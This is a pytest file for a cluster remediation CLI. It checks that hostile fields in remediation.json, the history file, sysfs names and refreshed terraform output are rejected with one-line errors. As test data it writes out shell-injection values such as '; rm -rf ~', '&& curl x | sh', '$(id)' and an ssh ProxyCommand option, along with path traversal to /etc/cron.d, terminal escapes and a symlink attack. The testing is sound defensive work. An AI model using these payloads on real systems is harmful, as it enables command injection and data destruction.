"""Hostile values in the files the operator commands read: the ``verify_remediation`` output
(remediation.json) and the remediation history (JSON lines). Each is refused with exit 2 and one
message naming the field, its value and the fix, before anything is printed to run, appended or run:
``remediate`` prints the output's bundle command and ``--execute`` runs it with ``sh -c``; the history
is what the circuit breaker counts.

Tables of (what is changed, the message expected), and one sweep of every string field the commands
put into a command line or a file name against each category of hostile text."""

from __future__ import annotations

import copy
import json
import re
from pathlib import Path

import pytest

from crusoe_ib.verify.operator import cli
from crusoe_ib.verify.operator import history as hist

POOL4 = Path(__file__).resolve().parent / "fleet_fixtures" / "pool4"
BASE = json.loads((POOL4 / "remediation.json").read_text())
BUNDLE_002 = BASE["bundle"]["node-002"]
MARKER = "crusoe-ib-test-marker"


def changed(path: tuple, value) -> dict:
    """BASE with the field at ``path`` (keys) set to ``value``."""
    doc = copy.deepcopy(BASE)
    node = doc
    for step in path[:-1]:
        node = node.setdefault(step, {})
    node[path[-1]] = value
    return doc


def remediate(tmp_path, capsys, doc, *extra) -> tuple:
    path = tmp_path / "remediation.json"
    path.write_text(doc if isinstance(doc, str) else json.dumps(doc))
    code = cli.main(["remediate", "--remediation", str(path), "--node", "node-002", *extra])
    out, err = capsys.readouterr()
    return code, out, err


# --- the output's fields, by meaning ---------------------------------------------------------------

REMEDIATION_CASES = [
    # the bundle command is printed to run, and run by --execute: only the stack's own command passes
    ("bundle with a second command first", ("bundle", "node-002"), f"touch {MARKER}; {BUNDLE_002}",
     r"bundle\['node-002'\] must be the bundle command the stack wrote for node-002; this one is not `ssh "
     r"ubuntu@198\.51\.100\.12 '<remote command>' > crusoe-ib-bundle-node-002\.tar\.gz`, not \"touch "),
    ("bundle with a second line", ("bundle", "node-002"), f"{BUNDLE_002}\ntouch {MARKER}",
     r"bundle\['node-002'\].*holds a control or non-ASCII character"),
    ("bundle with a command substitution", ("bundle", "node-002"), BUNDLE_002.replace("--node-key", "$(touch x) --node-key"),
     r"holds \$ or a backquote"),
    ("bundle with a remote command added", ("bundle", "node-002"), BUNDLE_002.replace("' >", f"; touch {MARKER}' >"),
     r"has a remote command other than `sudo python3 /opt/crusoe-ib/verify\.pyz bundle --instance-type "),
    ("bundle to another host", ("bundle", "node-002"), BUNDLE_002.replace("198.51.100.12", "203.0.113.66"),
     r"is not `ssh ubuntu@198\.51\.100\.12"),
    ("bundle with an ssh option", ("bundle", "node-002"), BUNDLE_002.replace("ssh ", "ssh -oProxyCommand=x ", 1),
     r"bundle\['node-002'\].*is not `ssh ubuntu@"),
    ("bundle with unbalanced quotes", ("bundle", "node-002"), BUNDLE_002 + "'", r"is not one shell command line"),
    ("bundle with a right-to-left override", ("bundle", "node-002"), BUNDLE_002.replace("' >", "\u202e' >"),
     r"control or non-ASCII character, not .*\\u202e"),
    # values that name files and commands
    ("instance type with a substitution", ("instance_type",), "h100$(id)",
     r"instance_type must be null or an instance type name such as h100-80gb-sxm-ib\.8x, not 'h100\$\(id\)'"),
    ("instance type with a newline", ("instance_type",), "h100-80gb-sxm-ib.8x\n", r"instance_type .*'h100-80gb-sxm-ib\.8x\\n'"),
    ("history path absolute", ("history",), {"path": "/etc/cron.d/x"},
     r"history\.path must be null or a relative path .* without '\.\.'.*, not '/etc/cron\.d/x'"),
    ("history path climbing out", ("history",), {"path": "../../x.jsonl"}, r"history\.path .*not '\.\./\.\./x\.jsonl'"),
    ("history path from home", ("history",), {"path": "~/x.jsonl"}, r"history\.path .*not '~/x\.jsonl'"),
    ("history remote with a second command", ("history",), {"path": "h.jsonl", "remote": "s3://b/k; rm -rf ~"},
     r"history\.remote must be null or the s3://bucket/key .*not 's3://b/k; rm -rf ~'"),
    ("history push with a second command", ("history",), {"push": "aws s3 cp h.jsonl s3://b/k && curl x | sh"},
     r"history\.push must be null or the `aws s3 cp \.\.\.` command the stack writes"),
    ("history pull with a terminal escape", ("history",), {"pull": "\x1b]0;x\x07aws s3 cp"},
     r"history\.pull .*not '\\x1b\]0;x\\x07aws s3 cp'"),
    # types and numbers: a usage error, never a traceback
    ("mode a list", ("mode",), ["slurm"], r"mode must be one of torchrun, k3s, managed_kubernetes, slurm.*not \['slurm'\]"),
    ("breaker hours past float's range", ("breaker",), {"window_hours": 10**400}, r"breaker\.window_hours must be a positive number"),
    ("breaker hours NaN", ("breaker",), {"repeat_offender_hours": float("nan")}, r"breaker\.repeat_offender_hours .*not nan"),
    ("ssh user with a value shown", ("ssh_user",), "root;id", r"ssh_user must be a login name, not 'root;id'"),
]


@pytest.mark.parametrize("path,value,pattern", [c[1:] for c in REMEDIATION_CASES], ids=[c[0] for c in REMEDIATION_CASES])
def test_a_hostile_remediation_field_is_refused_naming_field_value_and_fix(tmp_path, capsys, monkeypatch, path, value,
                                                                          pattern):
    monkeypatch.chdir(tmp_path)
    code, out, err = remediate(tmp_path, capsys, changed(path, value))
    assert code == 2, (code, out, err)
    assert re.search(pattern, err, re.S), err
    assert "terraform output -json verify_remediation" in err  # the fix
    assert out == "" and MARKER not in out and "Traceback" not in err
    assert len(err.strip().splitlines()) == 1 and len(err) < 1500  # one line, one screen
    assert not any(tmp_path.glob("*.jsonl"))  # nothing recorded


def test_the_stack_s_own_bundle_command_passes_and_is_handed_out(tmp_path, capsys, monkeypatch):
    monkeypatch.chdir(tmp_path)
    code, out, err = remediate(tmp_path, capsys, changed(("max_share",), 1.0))
    assert code == 0, err
    assert BUNDLE_002 in out.splitlines()


def test_a_bundle_of_a_key_outside_the_pool_is_never_used(tmp_path, capsys, monkeypatch):
    """Only the pool's nodes have a bundle that is printed or run; another key's entry is dropped unread."""
    monkeypatch.chdir(tmp_path)
    doc = changed(("bundle", "node-999"), f"touch {MARKER}")
    doc["max_share"] = 1.0
    code, out, err = remediate(tmp_path, capsys, doc)
    assert code == 0 and MARKER not in out, err


@pytest.mark.parametrize("jump", [None, "ops@bastion.example.com:2222"])
def test_the_bundle_check_follows_the_jump_host(tmp_path, capsys, monkeypatch, jump):
    """Through a jump host the stack writes ``ssh -J <jump> ...``: that passes, and so does no -J without one."""
    monkeypatch.chdir(tmp_path)
    doc = changed(("max_share",), 1.0)
    doc["ssh_jump_host"] = jump
    if jump:
        doc["bundle"] = {k: v.replace("ssh ", f"ssh -J {jump} ", 1) for k, v in doc["bundle"].items()}
    assert remediate(tmp_path, capsys, doc)[0] == 0
    doc["bundle"]["node-002"] = BUNDLE_002.replace("ssh ", "ssh -J evil.example.com ", 1)
    code, _, err = remediate(tmp_path, capsys, doc)
    assert code == 2 and "bundle['node-002']" in err


# Every string field that reaches a command line, a file name or the terminal, against each category.
HOSTILE = {
    "shell separator": "x;id", "substitution": "$(id)", "backquotes": "`id`", "trailing newline": "{}\n",
    "leading space": " {}", "NUL": "{}\x00", "terminal escape": "\x1b[2K{}", "right-to-left override": "{}\u202e",
    "homoglyph": "{}\u0430", "expression": "${{file(\"x\")}}", "quote": "{}'",
}
FIELDS = {
    ("stack",): "training-dev", ("pool_address",): "crusoe_compute_instance.pool_nodes", ("ssh_user",): "ubuntu",
    ("ssh_jump_host",): "bastion.example.com", ("known_hosts",): "crusoe-ib-known_hosts.d/training-dev",
    ("instance_type",): "h100-80gb-sxm-ib.8x", ("scheduler_host",): "198.51.100.2",
    ("nodes", "node-002", "host"): "198.51.100.12", ("nodes", "node-002", "name"): "training-dev-node-002",
    ("history", "path"): "training-dev.remediation.jsonl", ("history", "remote"): "s3://bucket/training-dev.remediation.jsonl",
    ("bundle", "node-002"): BUNDLE_002,
}


#: Spellings that keep the meaning: sh runs " ssh ..." exactly as "ssh ...".
SAME_MEANING = {(("bundle", "node-002"), "leading space")}


def test_every_command_field_refuses_every_category_of_hostile_text(tmp_path, capsys, monkeypatch):
    monkeypatch.chdir(tmp_path)
    accepted = []
    for path, good in FIELDS.items():
        for name, form in HOSTILE.items():
            if (path, name) in SAME_MEANING:
                continue
            value = form.format(good) if "{}" in form else form
            code, out, err = remediate(tmp_path, capsys, changed(path, value))
            if code != 2 or ".".join(path[:1]) not in err or "Traceback" in err:
                accepted.append((path, name, code, err[-200:]))
    assert not accepted, "\n".join(map(repr, accepted))


# --- the history, by meaning -------------------------------------------------------------------------

RECORD = {"time_utc": "2026-11-28T01:00:00Z", "stack": "training-dev", "node_key": "node-001", "action": "replace",
          "evidence": "port_state", "operator": "a@b", "outcome": "handed-out"}
HISTORY_CASES = [
    ("a breaker reset from the future", dict(RECORD, action="breaker-reset", outcome="reset", node_key=None,
                                             time_utc="2099-01-01T00:00:00Z"),
     r"line 2: time_utc '2099-01-01T00:00:00Z' is later than this machine's clock \(2026-11-28T03:00:00Z\) by more than "
     r"60 minutes"),
    ("a replace two hours ahead", dict(RECORD, time_utc="2026-11-28T05:00:01Z"), r"line 2: time_utc '2026-11-28T05:00:01Z'"),
    ("stack a list", dict(RECORD, stack=["training-dev"]), r"line 2: stack \['training-dev'\] is not a string"),
    ("evidence NaN", '{"time_utc": "2026-11-28T01:00:00Z", "stack": "training-dev", "node_key": "node-001", "action": '
                     '"replace", "evidence": NaN, "operator": "a@b", "outcome": "done"}', r"line 2: evidence nan is not a string"),
    ("operator a number", dict(RECORD, operator=7), r"line 2: operator 7 is not a string"),
    ("a long action shown short", dict(RECORD, action="x" * 5000), r"line 2: action 'x{70,80}\.\.\. is not one of"),
]


@pytest.mark.parametrize("line,pattern", [c[1:] for c in HISTORY_CASES], ids=[c[0] for c in HISTORY_CASES])
def test_a_history_line_that_would_bend_the_breaker_stops_remediate(tmp_path, capsys, monkeypatch, line, pattern):
    monkeypatch.chdir(tmp_path)
    monkeypatch.setattr(hist, "now", lambda: hist.parse_utc("2026-11-28T03:00:00Z"))
    history = tmp_path / "h.jsonl"
    monkeypatch.setenv("CRUSOE_IB_REMEDIATION_HISTORY", str(history))
    text = json.dumps(RECORD) + "\n" + (line if isinstance(line, str) else json.dumps(line)) + "\n"
    history.write_text(text)
    code, out, err = remediate(tmp_path, capsys, changed(("max_share",), 1.0))
    assert code == 2 and re.search(pattern, err), err
    assert "remediate stops rather than guess" in err and len(err) < 1500
    assert history.read_text() == text  # nothing appended


def test_a_record_within_the_clock_allowance_is_read(tmp_path, capsys, monkeypatch):
    """Another operator's clock may run a little ahead: up to an hour is a record, not damage."""
    monkeypatch.chdir(tmp_path)
    monkeypatch.setattr(hist, "now", lambda: hist.parse_utc("2026-11-28T03:00:00Z"))
    history = tmp_path / "h.jsonl"
    history.write_text(json.dumps(dict(RECORD, time_utc="2026-11-28T03:59:00Z")) + "\n")
    assert [r["time_utc"] for r in hist.read(str(history))] == ["2026-11-28T03:59:00Z"]


# --- the node: names read from sysfs become tool arguments ------------------------------------------


@pytest.mark.parametrize("name", ["-h", "--help", "mlx5_0\x1b[2K", "mlx5\u202e_0", "a b"])
def test_a_sysfs_name_that_is_not_a_plain_name_never_reaches_a_tool_argv(tmp_path, capsys, name):
    """The bundle runs perfquery per IB device and ethtool per interface (as root, through sudo): a device or
    interface directory named like an option, or holding control characters, is recorded and skipped."""
    from conftest import write_tool

    calls = tmp_path / "calls.log"
    bin_dir = tmp_path / "bin"
    for tool in ("perfquery", "ethtool"):
        write_tool(bin_dir, tool, f'printf "%s\\n" "$*" >> "{calls}"')
    sysfs = tmp_path / "ib"
    for dev in ("mlx5_0", name):
        port = sysfs / dev / "ports" / "1"
        port.mkdir(parents=True)
        (port / "state").write_text("4: ACTIVE\n")
        (port / "link_layer").write_text("InfiniBand\n")
    net = tmp_path / "net"
    for iface in ("ib0", name):
        (net / iface).mkdir(parents=True)
    code = cli.main(["bundle", "--sysfs-root", str(sysfs), "--net-root", str(net), "--tool-path", str(bin_dir),
                     "--output", str(tmp_path / "b.tar.gz"), "--json"])
    out, err = capsys.readouterr()
    assert code in (0, 1) and "Traceback" not in err
    argvs = calls.read_text().splitlines()
    assert "-E mlx5_0 1" in argvs and "ib0" in argvs  # the plain names still run
    assert not [a for a in argvs if name in a], argvs
    notes = [i.get("note", "") for i in json.loads(out)["manifest"]["items"]]
    assert any("not a plain device name" in n for n in notes) and any("not a plain interface name" in n for n in notes)


@pytest.mark.parametrize("what", ["fifo", "device", "lock fifo"])
def test_a_history_or_lock_that_is_not_a_file_is_refused_without_waiting(tmp_path, capsys, monkeypatch, what):
    """A FIFO where the history (or its lock) should be blocked remediate forever; /dev/zero fed it 64 MiB."""
    import os
    import time

    monkeypatch.chdir(tmp_path)
    history = tmp_path / "h.jsonl"
    if what == "fifo":
        os.mkfifo(history)
    elif what == "lock fifo":
        os.mkfifo(tmp_path / "h.jsonl.lock")
    target = "/dev/zero" if what == "device" else str(history)
    monkeypatch.setenv("CRUSOE_IB_REMEDIATION_HISTORY", target)
    start = time.monotonic()
    code, out, err = remediate(tmp_path, capsys, changed(("max_share",), 1.0))
    assert time.monotonic() - start < 5
    expected = {"fifo": r"h\.jsonl is a FIFO, not a file", "device": r"/dev/zero is a character device, not a file",
                "lock fifo": r"h\.jsonl\.lock: it is a FIFO, not a plain file\. Move it aside"}[what]
    assert code == 2 and re.search(expected, err), err


# --- what --execute reads back after a replace -------------------------------------------------------


@pytest.mark.parametrize("fresh", [
    changed(("nodes", "node-002", "host"), "198.51.100.99; touch x"),
    changed(("nodes", "node-002"), "not an object"),
    changed(("bundle", "node-002"), f"touch {MARKER}"),
], ids=["host with a command", "node not an object", "bundle not the stack's"])
def test_the_output_read_again_after_a_replace_is_checked_before_it_replaces_the_file(tmp_path, monkeypatch, fresh):
    """After a replace, --execute reads ``terraform output -json verify_remediation`` again (the node's new address)
    and writes it over --remediation: checked like the file it replaces, else the old file stays and is used."""
    from types import SimpleNamespace

    from crusoe_ib.verify.operator import remediation

    path = tmp_path / "remediation.json"
    path.write_text(json.dumps(BASE))
    monkeypatch.setattr(remediation, "_run", lambda command, timeout: (0, json.dumps(fresh)))
    args = SimpleNamespace(replaced=True, stack_dir=str(tmp_path), remediation=str(path))
    assert remediation._refresh(args, BASE) is None
    assert json.loads(path.read_text()) == BASE and not (tmp_path / "remediation.json.part").exists()


def test_the_output_read_again_replaces_the_file_when_it_is_the_stack_s(tmp_path, monkeypatch):
    from types import SimpleNamespace

    from crusoe_ib.verify.operator import remediation

    path = tmp_path / "remediation.json"
    path.write_text(json.dumps(BASE))
    fresh = changed(("nodes", "node-002", "host"), "198.51.100.99")
    fresh["bundle"]["node-002"] = BUNDLE_002.replace("198.51.100.12", "198.51.100.99")
    monkeypatch.setattr(remediation, "_run", lambda command, timeout: (0, json.dumps(fresh)))
    args = SimpleNamespace(replaced=True, stack_dir=str(tmp_path), remediation=str(path))
    assert remediation._refresh(args, BASE)["nodes"]["node-002"]["host"] == "198.51.100.99"
    assert json.loads(path.read_text())["nodes"]["node-002"]["host"] == "198.51.100.99"


@pytest.mark.parametrize("body", ["[" * 200_000 + "]" * 200_000, '{"ok": false, "checked_utc": "2026-11-28T03:00:00Z", '
                                  '"node_key": "node-002", "verdicts": 7}'], ids=["nested", "verdicts a number"])
def test_a_replaced_node_s_check_that_is_not_a_check_is_a_failed_step_not_a_traceback(tmp_path, monkeypatch, body):
    """--execute's check step reads the new node's node-check.json: the node's own file, as hostile as any."""
    from types import SimpleNamespace

    from crusoe_ib.verify.node import remote
    from crusoe_ib.verify.operator import remediation

    def fetch_one(ssh, host, label, remote_path, dest, timeout, sudo, max_bytes):
        local = Path(dest) / "node-check.json"
        local.write_text(body)
        return {"status": "ok", "local": str(local)}

    monkeypatch.setattr(remote, "fetch_one", fetch_one)
    monkeypatch.setattr(remediation, "POLL_SECONDS", 0)
    args = SimpleNamespace(replaced=False, check_timeout=0.2, ssh="ssh", known_hosts=None, remediation="r.json",
                           step_name="replace")
    ok, detail = remediation._check(args, BASE, "node-002", since=0)
    assert ok is False and isinstance(detail, str)


def test_the_output_read_again_is_never_written_through_a_link_planted_beside_remediation(tmp_path, monkeypatch):
    """``remediation.json.part`` is created O_EXCL | O_NOFOLLOW: a link there is refused, the file it points to kept,
    and --execute's check step fails naming it (recorded in the history like any failed step)."""
    from types import SimpleNamespace

    from crusoe_ib.verify.node.readers import UnsafePath
    from crusoe_ib.verify.operator import remediation

    path = tmp_path / "remediation.json"
    path.write_text(json.dumps(BASE))
    victim = tmp_path / "victim.txt"
    victim.write_text("keep me\n")
    (tmp_path / "remediation.json.part").symlink_to(victim)
    fresh = changed(("nodes", "node-002", "host"), "198.51.100.99")
    monkeypatch.setattr(remediation, "_run", lambda command, timeout: (0, json.dumps(fresh)))
    args = SimpleNamespace(replaced=True, stack_dir=str(tmp_path), remediation=str(path), check_timeout=1)
    with pytest.raises(UnsafePath, match=r"remediation\.json\.part: it is a symbolic link"):
        remediation._refresh(args, BASE)
    ok, detail = remediation._check(args, BASE, "node-002", 0.0)
    assert not ok and detail.startswith("refusing to write the refreshed --remediation ") and "Remove it" in detail
    assert victim.read_text() == "keep me\n" and json.loads(path.read_text()) == BASE
